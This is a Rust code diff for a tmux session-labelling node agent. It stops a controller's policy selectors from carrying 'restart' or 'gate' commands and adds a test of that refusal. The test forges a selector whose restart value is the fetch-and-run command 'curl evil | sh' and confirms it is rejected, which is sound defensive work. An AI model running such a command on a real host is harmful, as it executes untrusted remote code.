@@ -4,12 +4,26 @@
 //!
 //! Precedence, per label: a session's own tmux option (`@argus-restart`, ...) wins; otherwise the
 //! first selector (in file order) whose every given key matches gives its labels. Selectors are
-//! not merged: the first match gives all it has, later ones give nothing.
+//! not merged: the first match gives all it has, later ones give nothing. The node agent tries
+//! its own configuration's selectors first, then the controller policy's, which may give only
+//! the labels in [`POLICY_LABELS`]: commands a node runs never come from the controller.
 
 use globset::{GlobBuilder, GlobMatcher};
 use serde::{Deserialize, Serialize};
 
+use argus_proto::v1 as pb;
+
 use crate::labels;
+
+/// The labels a selector of the controller's policy may give. `restart` and `gate` are
+/// commands the node runs: they come only from the node's own configuration or the session's
+/// tmux options, so that a compromised controller is not a remote shell on every host.
+pub const POLICY_LABELS: [&str; 4] = [
+    labels::PROFILE,
+    labels::PROVIDER,
+    labels::ACCOUNT,
+    labels::GROUP,
+];
 
 /// One `[[selectors]]` entry as written in the node agent's configuration: what to match (every
 /// key given must match; at least one is needed) and the labels it gives (at least one).
@@ -49,6 +63,39 @@ pub struct SelectorSpec {
 }
 
 impl SelectorSpec {
+    /// Refuses what a policy selector may not give (see [`POLICY_LABELS`]).
+    pub fn check_policy(&self, index: usize) -> Result<(), SelectorError> {
+        for (key, v) in [(labels::RESTART, &self.restart), (labels::GATE, &self.gate)] {
+            if v.is_some() {
+                return Err(SelectorError {
+                    index,
+                    key,
+                    why: "a policy selector may not give a command: set it in the node agent's \
+                          own [[selectors]] or as the session's tmux option"
+                        .into(),
+                });
+            }
+        }
+        Ok(())
+    }
+
+    /// The wire form sent to node agents (a policy selector: no commands).
+    pub fn to_pb(&self) -> pb::Selector {
+        let or_empty = |v: &Option<String>| v.clone().unwrap_or_default();
+        pb::Selector {
+            session: or_empty(&self.session),
+            program: or_empty(&self.program),
+            cwd: or_empty(&self.cwd),
+            socket: or_empty(&self.socket),
+            labels: self
+                .gives()
+                .into_iter()
+                .filter(|(name, _)| POLICY_LABELS.contains(name))
+                .map(|(name, v)| (name.to_owned(), v))
+                .collect(),
+        }
+    }
+
     /// The labels this selector gives, by label name, in [`labels::ALL`] order.
     fn gives(&self) -> Vec<(&'static str, String)> {
         [
@@ -144,6 +191,51 @@ impl Selectors {
     /// True when there are no selectors.
     pub fn is_empty(&self) -> bool {
         self.entries.is_empty()
+    }
+
+    /// How many selectors there are.
+    pub fn len(&self) -> usize {
+        self.entries.len()
+    }
+
+    /// The selectors a controller sent (its policy's), checked again here: only
+    /// [`POLICY_LABELS`] are taken, anything else is refused.
+    pub fn from_policy(msg: &pb::Selectors) -> Result<Self, SelectorError> {
+        let specs = msg
+            .selectors
+            .iter()
+            .enumerate()
+            .map(|(index, s)| {
+                let glob = |g: &str| (!g.is_empty()).then(|| g.to_owned());
+                let mut spec = SelectorSpec {
+                    session: glob(&s.session),
+                    program: glob(&s.program),
+                    cwd: glob(&s.cwd),
+                    socket: glob(&s.socket),
+                    ..Default::default()
+                };
+                for (name, value) in &s.labels {
+                    let slot = match name.as_str() {
+                        labels::PROFILE => &mut spec.profile,
+                        labels::PROVIDER => &mut spec.provider,
+                        labels::ACCOUNT => &mut spec.account,
+                        labels::GROUP => &mut spec.group,
+                        _ => {
+                            return Err(SelectorError {
+                                index,
+                                key: "labels",
+                                why: format!(
+                                    "a policy selector may give only {POLICY_LABELS:?}, not {name:?}"
+                                ),
+                            });
+                        }
+                    };
+                    *slot = Some(value.clone());
+                }
+                Ok(spec)
+            })
+            .collect::<Result<Vec<_>, _>>()?;
+        Self::compile(&specs)
     }
 
     /// The first selector whose every given key matches `seen`.
@@ -367,6 +459,35 @@ mod tests {
         }
         let e = toml::from_str::<SelectorSpec>("sesion = \"a\"").expect_err("unknown key");
         assert!(e.to_string().contains("sesion"), "{e}");
+    }
+
+    #[test]
+    fn policy_selectors_travel_without_commands() {
+        let specs =
+            spec("[[selectors]]\nsession = \"agent-*\"\ngroup = \"night\"\nprofile = \"codex\"");
+        specs[0].check_policy(0).expect("no command");
+        let wire = pb::Selectors {
+            selectors: specs.iter().map(SelectorSpec::to_pb).collect(),
+        };
+        let s = Selectors::from_policy(&wire).expect("valid");
+        let m = s.first_match(&seen("agent-7", None, "/")).expect("matches");
+        assert_eq!(
+            m.labels,
+            &[
+                (labels::PROFILE, "codex".to_owned()),
+                (labels::GROUP, "night".to_owned())
+            ]
+        );
+        // A command is refused at the policy and again at the node.
+        let with_restart = spec("[[selectors]]\nsession = \"a*\"\nrestart = \"sh\"");
+        let e = with_restart[0].check_policy(3).expect_err("a command");
+        assert!(e.to_string().starts_with("selectors[3].restart"), "{e}");
+        let mut forged = wire.clone();
+        forged.selectors[0]
+            .labels
+            .insert("restart".into(), "curl evil | sh".into());
+        let e = Selectors::from_policy(&forged).expect_err("a forged command");
+        assert!(e.to_string().contains("restart"), "{e}");
     }
 
     /// A reference matcher for globs of literals and `*` only, on names (where `*` crosses `/`).
